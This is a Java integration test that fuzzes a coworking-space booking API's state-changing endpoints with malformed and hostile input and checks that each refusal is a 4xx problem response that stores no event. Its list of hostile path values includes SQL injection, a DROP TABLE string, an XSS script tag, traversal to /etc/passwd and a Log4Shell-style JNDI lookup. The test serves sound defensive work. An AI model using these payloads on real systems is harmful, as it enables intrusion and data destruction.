package com.coworkly.systemtests.security;

import com.coworkly.systemtests.support.Api;
import com.coworkly.systemtests.support.Bookings;
import com.coworkly.systemtests.support.Catalogue;
import com.coworkly.systemtests.support.Companies;
import com.coworkly.systemtests.support.EventStore;
import com.coworkly.systemtests.support.HostileInputs;
import com.coworkly.systemtests.support.HostileInputs.Expect;
import com.coworkly.systemtests.support.HostileInputs.Input;
import com.coworkly.systemtests.support.Memberships;
import com.coworkly.systemtests.support.Reply;
import com.coworkly.systemtests.support.RunningSystem;
import com.coworkly.systemtests.support.SharedSystem;
import com.coworkly.systemtests.support.StripeStandIn;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Every endpoint that changes something, on both services, sent hostile input: malformed JSON, wrong types,
 * missing and extra fields, bodies of several megabytes, huge numbers, control characters, exotic text, reversed,
 * empty and impossible periods, and hostile path variables. Whatever is refused is refused with a 4xx
 * problem+json carrying a code, and stores no event; what is valid but exotic may be accepted; nothing is a 5xx.
 *
 * <p>The inputs are drawn from a {@link java.util.Random} with the fixed {@link #SEED}, inside this Jupiter test,
 * so that one shared system serves all of them (reasons in docs/reliability.md, "Hostile input").
 * An endpoint in either service's OpenAPI document that changes something and has no row here fails the build.
 */
@ExtendWith(SharedSystem.class)
class HostileInputIT {

    /** The seed of every drawn input; the run prints it with its counts. Change it to explore further. */
    static final long SEED = Long.getLong("hostileInput.seed", 20261126L);

    enum Side {
        COMMAND,
        QUERY
    }

    enum Caller {
        NOBODY,
        MEMBER,
        MANAGER,
        ADMIN,
        OPERATOR
    }

    /** What the fuzzer calls an endpoint with: the space, a desk in it, a member's booking and series, a block. */
    record Fixture(
            String spaceId,
            String resourceId,
            String bookingId,
            String seriesId,
            String blockId,
            String memberId,
            String planId,
            String membershipId,
            String companyId) {}

    /**
     * A row: as whom the endpoint is called and with which valid body (none: the endpoint reads no body, and
     * its path variables are its input), which fields may be left out, which are free text, numbers, a period.
     */
    record Row(
            Side side,
            String method,
            String path,
            Caller caller,
            Function<Fixture, Map<String, Object>> body,
            Set<String> optional,
            Set<String> text,
            Set<String> numbers,
            boolean bodyOptional) {

        String key() {
            return side + " " + method + " " + path;
        }
    }

    private static Row bodiless(Side side, String method, String path, Caller caller) {
        return new Row(side, method, path, caller, null, Set.of(), Set.of(), Set.of(), true);
    }

    private static final Set<String> PERIOD = Set.of("start", "end");

    static final List<Row> ROWS = List.of(
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/members",
                    Caller.NOBODY,
                    fixture -> Map.of(
                            "email",
                            "hostile-" + UUID.randomUUID() + "@example.test",
                            "name",
                            "Hostile Member",
                            "password",
                            Api.TEST_PASSWORD),
                    Set.of(),
                    Set.of("name", "email"),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/auth/token",
                    Caller.NOBODY,
                    fixture -> Map.of("username", Api.MEMBER, "password", "member-demo-password"),
                    Set.of(),
                    Set.of("username", "password"),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/spaces",
                    Caller.ADMIN,
                    fixture -> Catalogue.with(
                            Catalogue.aSpace("Hostile space"), "vatRatePercent", new java.math.BigDecimal("21.00")),
                    Set.of("cancellationPolicy", "reminderLeadHours"),
                    Set.of("name", "address.street", "address.postalCode", "address.city"),
                    Set.of("vatRatePercent", "cancellationPolicy.lateWindowHours", "cancellationPolicy.lateFeePercent"),
                    false),
            new Row(
                    Side.COMMAND,
                    "PUT",
                    "/api/spaces/{spaceId}/quotas",
                    Caller.MANAGER,
                    fixture -> Map.of("hoursPerDay", 24, "hoursPerWeek", 168, "hoursPerMonth", 744),
                    Set.of("hoursPerDay", "hoursPerWeek", "hoursPerMonth"),
                    Set.of(),
                    Set.of("hoursPerDay", "hoursPerWeek", "hoursPerMonth"),
                    // an empty object is valid: it lifts every cap
                    true),
            new Row(
                    Side.COMMAND,
                    "PUT",
                    "/api/spaces/{spaceId}/legal-entity",
                    Caller.ADMIN,
                    fixture -> Catalogue.aLegalEntity("Hostile B.V."),
                    Set.of("registrationNumber", "paymentTerms"),
                    Set.of(
                            "legalName",
                            "address.street",
                            "address.postalCode",
                            "address.city",
                            "registrationNumber",
                            "paymentTerms"),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/spaces/{spaceId}/managers",
                    Caller.ADMIN,
                    fixture -> Map.of("memberId", fixture.memberId()),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/spaces/{spaceId}/resources",
                    Caller.MANAGER,
                    fixture -> Catalogue.aDesk("Hostile desk"),
                    Set.of(),
                    Set.of("name"),
                    Set.of(
                            "capacity",
                            "hourlyPrice.amount",
                            "slotMinutes",
                            "minimumMinutes",
                            "maximumMinutes",
                            "horizonDays"),
                    false),
            new Row(
                    Side.COMMAND,
                    "PUT",
                    "/api/resources/{resourceId}",
                    Caller.MANAGER,
                    fixture -> Bookings.anAlwaysOpenDesk("Hostile desk"),
                    Set.of(),
                    Set.of("name"),
                    Set.of("capacity", "hourlyPrice.amount", "horizonDays"),
                    false),
            new Row(
                    Side.COMMAND,
                    "PUT",
                    "/api/resources/{resourceId}/seats",
                    Caller.MANAGER,
                    fixture -> Map.of("seats", 4),
                    Set.of(),
                    Set.of(),
                    Set.of("seats"),
                    false),
            new Row(
                    Side.COMMAND,
                    "PUT",
                    "/api/resources/{resourceId}/buffers",
                    Caller.MANAGER,
                    fixture -> Map.of("beforeMinutes", 0, "afterMinutes", 15),
                    Set.of(),
                    Set.of(),
                    Set.of("beforeMinutes", "afterMinutes"),
                    false),
            bodiless(Side.COMMAND, "POST", "/api/resources/{resourceId}/retire", Caller.MANAGER),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/bookings",
                    Caller.MEMBER,
                    fixture -> Bookings.aBooking(
                            fixture.resourceId(), Bookings.inDays(30, 10, 0), Bookings.inDays(30, 12, 0)),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            bodiless(Side.COMMAND, "POST", "/api/bookings/{bookingId}/payment", Caller.MEMBER),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/bookings/{bookingId}/cancel",
                    Caller.MEMBER,
                    fixture -> Map.of("reason", "Plans changed"),
                    Set.of("reason"),
                    Set.of("reason"),
                    Set.of(),
                    true),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/bookings/series",
                    Caller.MEMBER,
                    fixture -> aSeries(fixture),
                    Set.of("onConflict"),
                    Set.of("recurrence"),
                    Set.of(),
                    false),
            bodiless(Side.COMMAND, "POST", "/api/bookings/series/{seriesId}/payment", Caller.MEMBER),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/bookings/series/{seriesId}/cancel",
                    Caller.MEMBER,
                    fixture -> Map.of(
                            "from", Bookings.inDays(60, 0, 0).toOffsetDateTime().toString()),
                    Set.of("from"),
                    Set.of(),
                    Set.of(),
                    true),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/resources/{resourceId}/blocks",
                    Caller.MANAGER,
                    fixture -> Bookings.aBlock(Bookings.inDays(31, 10, 0), Bookings.inDays(31, 12, 0), false),
                    Set.of("displace"),
                    Set.of("reason"),
                    Set.of(),
                    false),
            bodiless(Side.COMMAND, "DELETE", "/api/resources/{resourceId}/blocks/{blockId}", Caller.MANAGER),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/plans",
                    Caller.ADMIN,
                    fixture -> aPlan(),
                    Set.of("credits", "rollover", "spaceIds", "creditsOnly"),
                    Set.of("name"),
                    Set.of("monthlyPrice.amount", "credits.minutes", "rollover.capMinutes"),
                    false),
            new Row(
                    Side.COMMAND,
                    "PUT",
                    "/api/plans/{planId}",
                    Caller.ADMIN,
                    fixture -> aPlan(),
                    Set.of("credits", "rollover", "spaceIds", "creditsOnly"),
                    Set.of("name"),
                    Set.of("monthlyPrice.amount", "credits.minutes", "rollover.capMinutes"),
                    false),
            bodiless(Side.COMMAND, "POST", "/api/plans/{planId}/retire", Caller.ADMIN),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/memberships",
                    Caller.MEMBER,
                    fixture -> Map.of("planId", fixture.planId()),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/memberships/{membershipId}/plan",
                    Caller.MEMBER,
                    fixture -> Map.of("planId", fixture.planId()),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            bodiless(Side.COMMAND, "POST", "/api/memberships/{membershipId}/cancel", Caller.MEMBER),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/companies",
                    Caller.ADMIN,
                    fixture -> Companies.aCompany("Hostile company"),
                    Set.of("vatId"),
                    Set.of("name", "billingAddress.street", "billingAddress.postalCode", "billingAddress.city"),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/companies/{companyId}/administrators",
                    Caller.ADMIN,
                    fixture -> Map.of("memberId", fixture.memberId()),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/companies/{companyId}/members",
                    Caller.ADMIN,
                    fixture -> Map.of("memberId", fixture.memberId()),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            bodiless(Side.COMMAND, "DELETE", "/api/companies/{companyId}/members/{memberId}", Caller.ADMIN),
            new Row(
                    Side.COMMAND,
                    "POST",
                    "/api/companies/{companyId}/plan",
                    Caller.ADMIN,
                    fixture -> Map.of("planId", fixture.planId(), "homeSpaceId", fixture.spaceId()),
                    Set.of(),
                    Set.of(),
                    Set.of(),
                    false),
            bodiless(Side.COMMAND, "POST", "/api/companies/{companyId}/plan/cancel", Caller.ADMIN),
            // Stripe's body is Stripe's: its signature, not this fuzzer's JSON, decides; see stripesWebhook()
            bodiless(Side.COMMAND, "POST", "/api/payments/stripe/webhook", Caller.NOBODY),
            bodiless(Side.COMMAND, "POST", "/api/operations/lookups/rebuild", Caller.OPERATOR),
            bodiless(Side.QUERY, "POST", "/api/members/me/calendar-feed", Caller.MEMBER),
            bodiless(Side.QUERY, "DELETE", "/api/members/me/calendar-feed", Caller.MEMBER),
            bodiless(Side.QUERY, "POST", "/api/operations/dead-letters/{processingGroup}/retry", Caller.OPERATOR),
            bodiless(
                    Side.QUERY,
                    "POST",
                    "/api/operations/dead-letters/{processingGroup}/sequences/{sequenceId}/retry",
                    Caller.OPERATOR),
            bodiless(
                    Side.QUERY,
                    "DELETE",
                    "/api/operations/dead-letters/{processingGroup}/sequences/{sequenceId}",
                    Caller.OPERATOR),
            bodiless(Side.QUERY, "POST", "/api/operations/projections/{name}/replay", Caller.OPERATOR));

    /** Hostile path variables: not ids, markup, SQL, traversal, unicode, long; percent-encoded as a client would. */
    private static final List<String> HOSTILE_IDS = List.of(
            "not-a-uuid",
            "00000000-0000-0000-0000-00000000000",
            "' OR '1'='1",
            "1; DROP TABLE event_store.domain_event_entry",
            "<script>alert(1)</script>",
            "..",
            "../../etc/passwd",
            "🚀",
            "\u202Eevil",
            "%00",
            "null",
            "-1",
            "9".repeat(400),
            "a".repeat(1_500),
            "${jndi:ldap://example.test/a}",
            " ",
            "catalogue;name=x");

    private Api api;
    private EventStore events;
    private Map<Caller, Api.Session> sessions;
    private Fixture fixture;
    private HostileInputs hostile;
    private final Map<String, Map<String, Integer>> counts = new TreeMap<>();
    private long mark;
    private int refusedInputs;
    private int eventsStoredByRefusals;

    @BeforeEach
    void prepare(RunningSystem system) {
        api = system.api();
        events = system.eventStore();
        Catalogue.ManagedSpace space = Catalogue.aManagedSpace(api, "Hostile space " + UUID.randomUUID());
        Api.Session member = api.newMember();
        sessions = new LinkedHashMap<>();
        sessions.put(Caller.MEMBER, member);
        sessions.put(Caller.MANAGER, space.manager());
        sessions.put(Caller.ADMIN, api.signIn(Api.ADMIN));
        sessions.put(Caller.OPERATOR, api.signIn(Api.OPERATOR));
        String desk = Bookings.addResource(api, space, Bookings.anAlwaysOpenDesk("Hostile desk"));
        String booking = api.commandSide()
                .as(member)
                .post("/api/bookings", Bookings.aBooking(desk, Bookings.inDays(20, 10, 0), Bookings.inDays(20, 12, 0)))
                .expectStatus(201)
                .body()
                .get("bookingId")
                .asText();
        Map<String, Object> series =
                new LinkedHashMap<>(Bookings.aBooking(desk, Bookings.inDays(21, 10, 0), Bookings.inDays(21, 12, 0)));
        series.put("recurrence", "FREQ=WEEKLY;COUNT=3");
        String seriesId = api.commandSide()
                .as(member)
                .post("/api/bookings/series", series)
                .expectStatus(201)
                .body()
                .get("seriesId")
                .asText();
        String block = api.commandSide()
                .as(space.manager())
                .post(
                        "/api/resources/" + desk + "/blocks",
                        Bookings.aBlock(Bookings.inDays(22, 10, 0), Bookings.inDays(22, 12, 0), false))
                .expectStatus(201)
                .body()
                .get("blockId")
                .asText();
        String plan = api.commandSide()
                .as(sessions.get(Caller.ADMIN))
                .post("/api/plans", aPlan())
                .expectStatus(201)
                .body()
                .get("planId")
                .asText();
        // The member's membership is of another plan than the fuzzer's, which it retires along the way.
        String membership = api.commandSide()
                .as(member)
                .post("/api/memberships", Map.of("planId", aPlanOnSale()))
                .expectStatus(201)
                .body()
                .get("membershipId")
                .asText();
        String company = Companies.register(api, Companies.aCompany("Hostile input company"));
        fixture = new Fixture(
                space.spaceId(), desk, booking, seriesId, block, api.newMember().memberId(), plan, membership, company);
        hostile = new HostileInputs(SEED);
    }

    @Test
    void everyEndpointThatChangesSomethingHasARow() {
        Set<String> documented = new TreeSet<>();
        documented.addAll(
                changing(api.commandSide().get("/v3/api-docs").expectStatus(200).body(), Side.COMMAND));
        documented.addAll(
                changing(api.querySide().get("/v3/api-docs").expectStatus(200).body(), Side.QUERY));
        Set<String> fuzzed = new TreeSet<>();
        ROWS.forEach(row -> fuzzed.add(row.key()));

        assertThat(fuzzed).as("endpoints the hostile-input fuzzer sends to").isEqualTo(documented);
        Set<String> withBodies = new TreeSet<>();
        withBodies.addAll(readingBodies(
                api.commandSide().get("/v3/api-docs").expectStatus(200).body(), Side.COMMAND));
        withBodies.addAll(readingBodies(
                api.querySide().get("/v3/api-docs").expectStatus(200).body(), Side.QUERY));
        Set<String> fuzzedBodies = new TreeSet<>();
        ROWS.stream()
                .filter(row -> row.body() != null || row.path().endsWith("/webhook"))
                .forEach(row -> fuzzedBodies.add(row.key()));
        assertThat(fuzzedBodies)
                .as("endpoints whose request bodies the fuzzer mutates")
                .isEqualTo(withBodies);
    }

    private static List<String> readingBodies(JsonNode openApi, Side side) {
        List<String> endpoints = new ArrayList<>();
        openApi.get("paths")
                .fields()
                .forEachRemaining(path -> path.getValue().fields().forEachRemaining(operation -> {
                    if (operation.getValue().has("requestBody")) {
                        endpoints.add(side + " " + operation.getKey().toUpperCase() + " " + path.getKey());
                    }
                }));
        return endpoints;
    }

    @Test
    void hostileInputIsRefusedWithAProblemAndStoresNothing() {
        SoftAssertions softly = new SoftAssertions();
        mark = latestEvent();
        long start = mark;
        for (Row row : ROWS) {
            List<Input> inputs = row.body() == null
                    ? List.of()
                    : hostile.of(
                            Api.JSON.valueToTree(row.body().apply(fixture)),
                            row.optional(),
                            new LinkedHashSet<>(row.text()),
                            new LinkedHashSet<>(row.numbers()),
                            row.body().apply(fixture).containsKey("start")
                                    ? new LinkedHashSet<>(List.of("start", "end"))
                                    : Set.of(),
                            row.bodyOptional(),
                            row.path().endsWith("/blocks"));
            // Refusals first, so that the fixture is as valid as can be while they are sent.
            for (Input input : inputs) {
                if (input.expect() == Expect.REFUSED) {
                    check(softly, row, input, send(row, path(row, Map.of()), input.body()));
                }
            }
            for (Input input : inputs) {
                if (input.expect() == Expect.ACCEPTED_OR_REFUSED) {
                    check(softly, row, input, send(row, path(row, Map.of()), input.body()));
                }
            }
            for (String variable : variables(row.path())) {
                for (String id : pathInputs()) {
                    // a dead letter's sequence is named by whatever its processing group sequences by: any text
                    Input input = new Input(
                            "path variable",
                            "{" + variable + "} = " + HostileInputs.visible(id),
                            null,
                            variable.equals("sequenceId") ? Expect.ACCEPTED_OR_REFUSED : Expect.REFUSED);
                    Reply reply = send(
                            row,
                            path(row, Map.of(variable, HostileInputs.pathSegment(id))),
                            row.body() == null
                                    ? null
                                    : HostileInputs.write(
                                            Api.JSON.valueToTree(row.body().apply(fixture))));
                    check(softly, row, input, reply);
                }
            }
        }
        stripesWebhook(softly);
        report();
        softly.assertAll();
        nothingAcceptedWasParked(start);
    }

    /**
     * What was accepted, however exotic, is projected: once every read model has caught up with the last event,
     * none of the events since the fuzzer started is parked as a dead letter.
     */
    private void nothingAcceptedWasParked(long start) {
        long end = latestEvent();
        Api.Session operator = sessions.get(Caller.OPERATOR);
        await().atMost(Duration.ofMinutes(1))
                .untilAsserted(() -> assertThat(api.querySide()
                                .as(operator)
                                .get("/api/operations/projections")
                                .expectStatus(200)
                                .body())
                        .allSatisfy(projection -> assertThat(
                                        projection.path("position").asLong(-1))
                                .as("position of " + projection.path("name").asText())
                                .isGreaterThanOrEqualTo(end)));
        List<String> parked = new ArrayList<>();
        for (int page = 0, pages = 1; page < pages; page++) {
            JsonNode letters = api.querySide()
                    .as(operator)
                    .get("/api/operations/dead-letters?size=100&page=" + page)
                    .expectStatus(200)
                    .body();
            pages = letters.get("totalPages").asInt();
            letters.get("items").forEach(letter -> {
                if (letter.path("globalPosition").asLong(0) > start) {
                    parked.add(letter.get("processingGroup").asText() + ": "
                            + letter.get("eventType").asText() + " "
                            + letter.path("causeMessage").asText());
                }
            });
        }
        assertThat(parked).as("events of the fuzzer parked as dead letters").isEmpty();
    }

    /**
     * Stripe's calls: unsigned (or wrongly signed) hostile bodies are refused; signed ones about a booking that
     * does not exist may be acknowledged (Stripe must not retry them) or refused, and store nothing either way.
     */
    private void stripesWebhook(SoftAssertions softly) {
        Row row = ROWS.stream()
                .filter(r -> r.path().endsWith("/webhook"))
                .findFirst()
                .orElseThrow();
        String valid = StripeStandIn.paymentIntentEvent(
                "evt_" + UUID.randomUUID(),
                "payment_intent.succeeded",
                "pi_booking-" + UUID.randomUUID() + "-payment",
                UUID.randomUUID().toString());
        ObjectNode event;
        try {
            event = (ObjectNode) Api.JSON.readTree(valid);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        List<Input> inputs = hostile.of(event, Set.of(), Set.of("type"), Set.of("created"), Set.of(), false);
        for (Input input : inputs) {
            Reply unsigned = api.commandSide().sendLarge("POST", row.path(), input.body(), "application/json");
            check(
                    softly,
                    row,
                    new Input(input.kind(), "unsigned, " + input.description(), input.body(), Expect.REFUSED),
                    unsigned);
            Reply signed = api.commandSide()
                    .header("Stripe-Signature", StripeStandIn.signatureOf(input.body(), StripeStandIn.WEBHOOK_SECRET))
                    .sendLarge("POST", row.path(), input.body(), "application/json");
            check(
                    softly,
                    row,
                    new Input(input.kind(), "signed, " + input.description(), input.body(), Expect.ACCEPTED_OR_REFUSED),
                    signed);
        }
    }

    private List<String> pathInputs() {
        List<String> ids = new ArrayList<>(HOSTILE_IDS);
        ids.add(UUID.randomUUID().toString());
        for (int i = 0; i < 3; i++) {
            String drawn = hostile.anyString().replaceAll("[\\uD800-\\uDFFF]", "");
            ids.add(drawn.isBlank() ? "x" + drawn : drawn);
        }
        return ids;
    }

    private void check(SoftAssertions softly, Row row, Input input, Reply reply) {
        String what = row.key() + " with " + input.kind() + ": " + input.description() + " answered " + reply.status()
                + " " + abbreviated(reply.raw());
        boolean refused = reply.status() >= 400 && reply.status() < 500;
        boolean accepted = reply.status() >= 200 && reply.status() < 300;
        counts.computeIfAbsent(row.key(), key -> new TreeMap<>()).merge("inputs", 1, Integer::sum);
        counts.get(row.key()).merge(refused ? "refused" : accepted ? "accepted" : "other", 1, Integer::sum);
        counts.computeIfAbsent("kind " + input.kind(), key -> new TreeMap<>()).merge("inputs", 1, Integer::sum);
        softly.assertThat(reply.status()).as(what).isLessThan(500);
        if (input.expect() == Expect.REFUSED) {
            softly.assertThat(refused).as(what + " (must be refused)").isTrue();
        } else {
            softly.assertThat(refused || accepted).as(what).isTrue();
        }
        if (refused) {
            softly.assertThat(reply.contentType()).as(what + ": content type").startsWith("application/problem+json");
            if (reply.raw() == null) {
                // a body of megabytes refused before it was read: the server closed the connection after answering
                counts.get(row.key()).merge("refused, answer cut off", 1, Integer::sum);
            } else {
                softly.assertThat(codeOf(reply)).as(what + ": problem code").matches("[A-Z][A-Z_0-9]+");
            }
            List<String> stored = eventsSinceMark();
            refusedInputs++;
            eventsStoredByRefusals += stored.size();
            softly.assertThat(stored).as(what + ": events stored").isEmpty();
        } else {
            mark = latestEvent();
        }
    }

    private static String codeOf(Reply reply) {
        try {
            return Api.JSON.readTree(reply.raw()).path("code").asText("");
        } catch (Exception e) {
            return "(not JSON)";
        }
    }

    /** Events since the mark on the fuzzer's own aggregates, or of any new aggregate. */
    private List<String> eventsSinceMark() {
        List<String> stored = events.strings(
                "SELECT payload_type || ' of ' || aggregate_identifier FROM "
                        + "event_store.domain_event_entry WHERE global_index > ? AND (sequence_number = 0 "
                        + "OR aggregate_identifier IN (?, ?, ?, ?, ?, ?, ?, ?, ?, ?))",
                mark,
                fixture.spaceId(),
                fixture.resourceId(),
                fixture.bookingId(),
                fixture.seriesId(),
                fixture.blockId(),
                fixture.memberId(),
                fixture.planId(),
                fixture.membershipId(),
                fixture.companyId(),
                sessions.get(Caller.MEMBER).memberId());
        if (!stored.isEmpty()) {
            mark = latestEvent();
        }
        return stored;
    }

    private long latestEvent() {
        return events.longValue("SELECT coalesce(max(global_index), 0) FROM event_store.domain_event_entry");
    }

    private Reply send(Row row, String path, String body) {
        Api.Request request = row.side() == Side.COMMAND ? api.commandSide() : api.querySide();
        if (row.caller() != Caller.NOBODY) {
            request = request.as(sessions.get(row.caller()));
        }
        return switch (row.method()) {
            case "POST" ->
                body == null ? request.post(path, Map.of()) : request.sendLarge("POST", path, body, "application/json");
            case "PUT" -> request.sendLarge("PUT", path, body, "application/json");
            case "DELETE" -> request.delete(path);
            default -> throw new IllegalArgumentException(row.method());
        };
    }

    /** The row's path with the fixture's ids, and {@code hostile} values for some of its variables. */
    private String path(Row row, Map<String, String> hostileValues) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("spaceId", fixture.spaceId());
        values.put("resourceId", fixture.resourceId());
        values.put("bookingId", fixture.bookingId());
        values.put("seriesId", fixture.seriesId());
        values.put("blockId", fixture.blockId());
        values.put("planId", fixture.planId());
        values.put("membershipId", fixture.membershipId());
        values.put("companyId", fixture.companyId());
        values.put("memberId", fixture.memberId());
        values.put("processingGroup", "catalogue");
        values.put("sequenceId", UUID.randomUUID().toString());
        values.put("name", "notifications");
        values.putAll(hostileValues);
        String path = row.path();
        for (Map.Entry<String, String> value : values.entrySet()) {
            path = path.replace("{" + value.getKey() + "}", value.getValue());
        }
        return path;
    }

    private String aPlanOnSale() {
        return Memberships.define(api, aPlan());
    }

    private static Map<String, Object> aPlan() {
        Map<String, Object> plan = Memberships.aPlan("Hostile plan", 600, "MEETING_ROOM");
        plan.put("rollover", Map.of("capMinutes", 300));
        return plan;
    }

    private static List<String> variables(String path) {
        List<String> variables = new ArrayList<>();
        Matcher matcher = Pattern.compile("\\{(\\w+)}").matcher(path);
        while (matcher.find()) {
            variables.add(matcher.group(1));
        }
        return variables;
    }

    private void report() {
        int total = 0;
        StringBuilder report = new StringBuilder("Hostile input, seed " + SEED + ":\n");
        for (Map.Entry<String, Map<String, Integer>> entry : counts.entrySet()) {
            report.append(String.format("  %-95s %s%n", entry.getKey(), entry.getValue()));
            if (!entry.getKey().startsWith("kind ")) {
                total += entry.getValue().get("inputs");
            }
        }
        report.append("  total inputs: ").append(total).append('\n');
        report.append("  events stored by the ")
                .append(refusedInputs)
                .append(" refused inputs: ")
                .append(eventsStoredByRefusals)
                .append('\n');
        System.out.print(report);
    }

    private static Map<String, Object> aSeries(Fixture fixture) {
        Map<String, Object> series = new LinkedHashMap<>(
                Bookings.aBooking(fixture.resourceId(), Bookings.inDays(40, 10, 0), Bookings.inDays(40, 12, 0)));
        series.put("recurrence", "FREQ=DAILY;COUNT=2");
        series.put("onConflict", "SKIP");
        return series;
    }

    private static String abbreviated(String text) {
        return text == null ? "" : text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }

    private static List<String> changing(JsonNode openApi, Side side) {
        List<String> endpoints = new ArrayList<>();
        openApi.get("paths")
                .fields()
                .forEachRemaining(path -> path.getValue().fieldNames().forEachRemaining(method -> {
                    if (!method.equals("get")) {
                        endpoints.add(side + " " + method.toUpperCase() + " " + path.getKey());
                    }
                }));
        return endpoints;
    }
}
